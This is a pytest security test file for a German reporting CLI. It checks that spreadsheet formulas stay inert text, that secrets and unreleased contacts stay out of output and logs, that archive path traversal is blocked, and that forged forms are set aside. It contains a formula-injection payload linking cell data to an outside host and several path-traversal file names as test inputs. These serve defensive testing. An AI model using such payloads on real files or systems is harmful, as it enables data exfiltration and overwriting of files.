"""The threats of docs/security.md that go through several rooms, and that every test which the document names exists."""

from __future__ import annotations

import re
import zipfile
from pathlib import Path

import openpyxl
import pytest

from fko_cli import app
from fko_cli.edges.store import open_store
from fko_cli.edges.workspace import open_workspace
from tests.faults.scene import typed

ROOT = Path(__file__).resolve().parent.parent
FORMULA = '=HYPERLINK("https://example.org/?"&A1,"Messe")'
CONTACT = "Durchwahl 4711 der Musterstelle"
COLUMNS = ["Titel der Aktivität", "Handlungsfeld", "Kurzbeschreibung", "Status", "Ansprechperson", "Kontakt veröffentlichen"]
PRINTING = [
    ("status",), ("list",), ("list", "--reports"), ("list", "--needs"), ("review",), ("edit",), ("adopt",), ("round",),
    ("changes",), ("history", "A-0001"), ("merge",), ("collect",), ("doctor",), ("remind",), ("send",), ("report",),
    ("export", "table"), ("export", "concept", "--no-pages"), ("export", "resolution"), ("export", "talk"),
]  # fmt: skip


@pytest.fixture
def region(workspace_folder, fko, tmp_path):
    """Two institutions reported: a formula as a title, and a contact that nobody released."""
    for actor, title in (("kammer", FORMULA), ("jobcenter", FORMULA.replace("Messe", "Börse"))):
        book = openpyxl.Workbook()
        book.active.append(COLUMNS)
        book.active.append(["", "1", "Betriebe stellen sich vor.", "laufend", CONTACT, "nein"])
        book.active.cell(2, 1).value = title
        book.active.cell(2, 1).data_type = "s"
        path = tmp_path / f"{actor}.xlsx"
        book.save(path)
        assert fko("collect", "--actor", actor, path, "-w", workspace_folder).code in (0, 3)
    assert fko("merge", "-w", workspace_folder).code in (0, 3)
    return workspace_folder


def test_every_test_that_the_threat_model_names_exists():
    named = re.findall(r"`(tests/\w+\.py)::(\w+)`", (ROOT / "docs" / "security.md").read_text(encoding="utf-8"))
    assert len(named) > 20
    for path, name in named:
        assert re.search(rf"^def {name}\(", (ROOT / path).read_text(encoding="utf-8"), re.MULTILINE), f"{path}::{name}"


def test_a_formula_that_somebody_reported_is_a_text_in_every_sheet(region, fko, tmp_path):
    assert fko("export", "table", "-w", region).code in (0, 3)
    assert fko("review", "--export", tmp_path / "fragen.xlsx", "-w", region).code in (0, 3)
    assert fko("list", "--json", "-w", region).json["activities"][0]["title"].startswith("=HYPERLINK")
    sheets = [*(region / "ausgabe").rglob("*.xlsx"), *(region / "versand").rglob("*.xlsx"), tmp_path / "fragen.xlsx"]
    assert len(sheets) >= 2
    seen = 0
    for path in sheets:
        for sheet in openpyxl.load_workbook(path).worksheets:
            for row in sheet.iter_rows():
                for cell in row:
                    seen += "HYPERLINK" in str(cell.value or "")
                    assert cell.data_type != "f" or "HYPERLINK" not in str(cell.value), f"{path.name} {cell.coordinate}"
    assert seen


def test_secrets_and_contacts_that_nobody_released_are_in_nothing_that_is_printed(region, monkeypatch):
    monkeypatch.setenv("FKO_SMTP_USER", "haus")
    monkeypatch.setenv("FKO_SMTP_PASSWORD", "streng-geheim")
    with open_store(open_workspace(region)) as store:
        key = store.workspace_key().hex()
    known = typed("--help").out
    for words in PRINTING:
        if f"\n  {words[0]} " not in known:
            continue
        for more in ([], ["--json"]):
            ran = typed(*words, *more, "-w", str(region))
            for secret in (key, "streng-geheim", CONTACT):
                assert secret not in ran.out + ran.err, (words, secret)
    asked = typed("list", "--reports", "--contacts", "--json", "-w", str(region))
    assert CONTACT in asked.out


def test_a_contact_that_nobody_released_is_in_no_document(region):
    for words in (("concept", "--no-pages"), ("resolution",), ("talk",)):
        assert typed("export", *words, "-w", str(region)).code in (0, 3)
    documents = list((region / "ausgabe").rglob("*.docx"))
    assert len(documents) >= 3
    for path in documents:
        with zipfile.ZipFile(path) as archive:
            texts = [re.sub(r"<[^>]+>", "", archive.read(name).decode("utf-8", "replace")) for name in archive.namelist()]
        assert not any(CONTACT in text for text in texts), path.name


def test_the_log_of_a_bug_tells_places_in_the_code_and_nothing_that_somebody_wrote(region, monkeypatch, capsys, tmp_path):
    monkeypatch.setenv("TMPDIR", str(tmp_path))
    monkeypatch.setattr("tempfile.tempdir", None)

    written = f"post@kammer.example.org: {FORMULA}"

    def fail(*_arguments, **_more):
        try:
            raise KeyError(CONTACT)
        except KeyError as problem:
            raise ValueError(written) from problem

    monkeypatch.setattr("fko_cli.stages.activities.listing.listing", fail)
    monkeypatch.setattr("fko_cli.edges.workspace.open_workspace", fail)
    assert app.run(["list", "-w", str(region)]) == 1
    said = capsys.readouterr().err
    (log,) = tmp_path.glob("fko-fehler-*.log")
    text = log.read_text(encoding="utf-8")
    for word in (CONTACT, "post@kammer", "HYPERLINK"):
        assert word not in text
        assert word not in said
    assert "ValueError" in text
    assert "KeyError" in text
    assert "fko_cli" in text


@pytest.mark.parametrize("name", ["../../../boese.csv", "/tmp/fko-boese.csv", "..\\..\\boese.csv", "C:\\boese.csv"])
def test_paths_in_an_archive_lead_nowhere(workspace_folder, fko, tmp_path, name):
    path = tmp_path / "post.zip"
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr(name, "Titel der Aktivität;Handlungsfeld\nMesse;1\n")
    before = {one for one in tmp_path.parent.rglob("*") if "originale" not in one.parts}
    ran = fko("collect", "--actor", "kammer", path, "-w", workspace_folder, "--json")
    assert ran.code in (0, 3)
    new = {one for one in tmp_path.parent.rglob("*") if "originale" not in one.parts} - before
    assert {one.name for one in new} <= {"2026", "fko.db-journal"}
    assert not Path("/tmp/fko-boese.csv").exists()


def test_a_form_for_another_institution_under_my_name_is_set_aside(workspace_folder, fko, tmp_path):
    """The signature binds actor and round: who changes the hidden name does not become somebody else."""
    sent = {one["actor"]: one["form"] for one in fko("send", "-w", workspace_folder, "--json").json["forms"]}
    book = openpyxl.load_workbook(workspace_folder / sent["kammer"])
    changed = 0
    for sheet in book.worksheets:
        if sheet.sheet_state == "visible":
            continue
        for row in sheet.iter_rows():
            for cell in row:
                if isinstance(cell.value, str) and "kammer" in cell.value:
                    cell.value = cell.value.replace("kammer", "jobcenter")
                    changed += 1
    assert changed
    path = tmp_path / "umgeschrieben.xlsx"
    book.save(path)
    (file,) = fko("collect", path, "-w", workspace_folder, "--json").json["files"]
    assert file["status"] == "set_aside"
    assert file["actor"] != "jobcenter" or file["reports"] == 0
